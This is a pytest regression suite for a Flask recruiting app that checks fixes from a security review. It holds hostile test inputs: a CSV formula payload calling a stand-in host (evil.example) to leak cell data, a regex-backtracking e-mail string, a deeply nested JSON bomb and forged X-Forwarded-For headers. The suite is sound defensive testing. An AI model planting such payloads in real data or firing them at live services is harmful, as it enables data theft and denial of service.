"""Regressions from the security review: request size, CSV formulas, JSON, leavers' tokens."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

import pytest
from flask import Flask
from flask.testing import FlaskClient

from app import create_app, db
from app.config import MAX_REQUEST_BYTES
from app.models import Candidate, Organization, Role, User
from app.services import api_tokens
from app.services import candidates as candidate_service
from tests.conftest import AuthActions, make_settings
from tests.support.api import bearer, token
from tests.support.builders import build_org, build_user


def test_an_oversized_anonymous_upload_is_refused_before_it_is_read(app: Flask) -> None:
    # The CSRF check reads the form, so without a cap the whole body is spooled to disk first.
    body = io.BytesIO(b"x" * (MAX_REQUEST_BYTES + 1))
    response = app.test_client().post(
        "/login", data={"file": (body, "big.bin")}, content_type="multipart/form-data"
    )
    assert response.status_code == 413
    assert "Content-Security-Policy" in response.headers


def test_candidate_export_defuses_formulas_in_email_addresses(
    client: FlaskClient, auth: AuthActions, recruiter: User, org: Organization
) -> None:
    # The e-mail pattern admits '=', '+', '-' at the start; the addresses may come from an ATS.
    candidate_service.create(org, "Mallory", ['=HYPERLINK("http://evil.example/"&A1)@x.example'])
    auth.login(recruiter.email)
    rows = list(csv.reader(io.StringIO(client.get("/candidates/export.csv").text)))
    assert rows[1][0] == "Mallory"
    assert rows[1][1].startswith("'=")


def test_deeply_nested_json_is_a_400_not_a_server_error(app: Flask, org: Organization) -> None:
    app.config["PROPAGATE_EXCEPTIONS"] = False
    depth = 100_000
    response = app.test_client().post(
        "/api/v1/candidates",
        data="[" * depth + "]" * depth,
        content_type="application/json",
        headers=bearer(token(org)),
    )
    assert response.status_code == 400
    assert response.json["error"]["code"] == "invalid_json"
    assert Candidate.of(org).count() == 0


def test_tokens_created_by_a_deactivated_user_are_refused(
    client: FlaskClient, auth: AuthActions, admin: User, org: Organization
) -> None:
    leaver = build_user(org, "leaver@acme.test", Role.ADMIN)
    theirs = api_tokens.create(org, "Their ATS", "write", actor=leaver).secret
    ours = api_tokens.create(org, "Our ATS", "read", actor=admin).secret
    auth.login(admin.email)
    client.post(f"/settings/users/{leaver.id}", data={"role": "admin"})  # no "active": deactivate
    assert client.get("/api/v1/candidates", headers=bearer(theirs)).status_code == 401
    assert client.get("/api/v1/candidates", headers=bearer(ours)).status_code == 200
    assert "refused: its creator is deactivated" in client.get("/settings/tokens").text


@pytest.fixture
def limited_app(database_url: str) -> Iterator[Flask]:
    application = create_app(make_settings(database_url, api_rate_limit="3 per minute"))
    db.migrate()
    yield application
    db.db.close()


def test_made_up_tokens_share_their_address_budget(limited_app: Flask) -> None:
    api = limited_app.test_client()
    statuses = [
        api.get("/api/v1/candidates", headers=bearer(f"sp_made-up-{n}")).status_code
        for n in range(4)
    ]
    assert statuses == [401, 401, 401, 429]


@pytest.mark.parametrize(
    ("url", "form"),
    [
        pytest.param("/settings/users", {"email": "n@acme.test", "role": "viewer"}, id="password"),
        pytest.param("/settings/tokens", {"name": "Lever", "scope": "read"}, id="token"),
    ],
)
def test_a_secret_shown_once_is_kept_out_of_caches_and_htmx_history(
    client: FlaskClient, auth: AuthActions, admin: User, url: str, form: dict[str, str]
) -> None:
    auth.login(admin.email)
    response = client.post(url, data=form, headers={"HX-Request": "true"})
    assert response.status_code == 201
    assert response.headers["Cache-Control"] == "no-store"
    notice = response.text.split('class="secret"')[0].rsplit("<div", 1)[1]
    assert 'hx-history="false"' in notice


def _failed_logins(app: Flask, user: User, forwarded_for: list[str]) -> list[int]:
    app.config["WTF_CSRF_ENABLED"] = False
    client = app.test_client()
    form = {"email": user.email, "password": "nope-nope-nope"}
    return [
        client.post("/login", data=form, headers={"X-Forwarded-For": address}).status_code
        for address in forwarded_for
    ]


@pytest.mark.parametrize(
    ("hops", "expected"),
    [
        pytest.param(0, [401, 401, 429], id="no-proxy-header-ignored"),
        pytest.param(1, [401, 401, 401], id="behind-a-proxy-per-client"),
    ],
)
def test_sign_in_budget_follows_x_forwarded_for_only_behind_a_configured_proxy(
    database_url: str, hops: int, expected: list[int]
) -> None:
    application = create_app(
        make_settings(database_url, login_rate_limit="2 per minute", proxy_hops=hops)
    )
    db.migrate()
    user = build_user(build_org("Acme Hiring", "acme"), "a@acme.test", Role.ADMIN)
    forged = ["203.0.113.1", "203.0.113.1", "203.0.113.2"]
    assert _failed_logins(application, user, forged) == expected
    db.db.close()


@pytest.mark.parametrize(
    "address",
    [
        pytest.param("a" * 250 + "@example.com", id="longer-than-rfc-5321"),
        pytest.param("a@" + "." * 5000 + "@", id="backtracking-bait"),
    ],
)
def test_overlong_email_addresses_are_refused(app: Flask, org: Organization, address: str) -> None:
    # Unbounded, the address pattern backtracks quadratically: a 4 MiB body pins a worker.
    response = app.test_client().post(
        "/api/v1/candidates",
        json={"name": "Mallory", "emails": [address]},
        headers=bearer(token(org)),
    )
    assert response.status_code == 422
    assert "emails" in response.json["error"]["details"]["fields"]


@pytest.mark.parametrize(
    ("method", "url"),
    [
        pytest.param("GET", "/candidates/{huge}", id="candidate"),
        pytest.param("GET", "/credentials/{huge}/receipt.json", id="receipt"),
        pytest.param("POST", "/settings/users/{huge}", id="user"),
        pytest.param("POST", "/settings/tokens/{huge}/revoke", id="token"),
    ],
)
def test_an_id_beyond_any_database_integer_is_a_404_not_a_server_error(
    client: FlaskClient, auth: AuthActions, admin: User, method: str, url: str
) -> None:
    client.application.config["PROPAGATE_EXCEPTIONS"] = False
    auth.login(admin.email)
    response = client.open(url.format(huge=2**70), method=method, data={"role": "admin"})
    assert response.status_code == 404


# Signing in and out, one's own password and a forgotten one: every user's, viewers included.
EVERYONES_OWN = {
    "auth.login",
    "auth.logout",
    "auth.forgot_password",
    "auth.reset_password",
    "account.change_password",
}


def test_a_viewer_is_refused_every_state_changing_page_route(
    app: Flask, client: FlaskClient, auth: AuthActions, viewer: User
) -> None:
    auth.login(viewer.email)
    checked = 0
    for rule in app.url_map.iter_rules():
        if rule.rule.startswith("/api/") or rule.endpoint in EVERYONES_OWN:
            continue
        if rule.endpoint.startswith("exchanges."):
            continue  # a wallet's, keyed by its exchange id, not by a user: test_exchanges.py
        if rule.endpoint.startswith(("portal.", "wallet.", "proofs.")):
            continue  # the candidate's, keyed by an invite link, not by a user: test_invites.py
        url = re.sub(r"<(?:[^:<>]+:)?[^<>]+>", "1", rule.rule)
        for method in sorted((rule.methods or set()) - {"GET", "HEAD", "OPTIONS"}):
            assert client.open(url, method=method).status_code == 403, (rule.endpoint, method)
            checked += 1
    assert checked >= 20
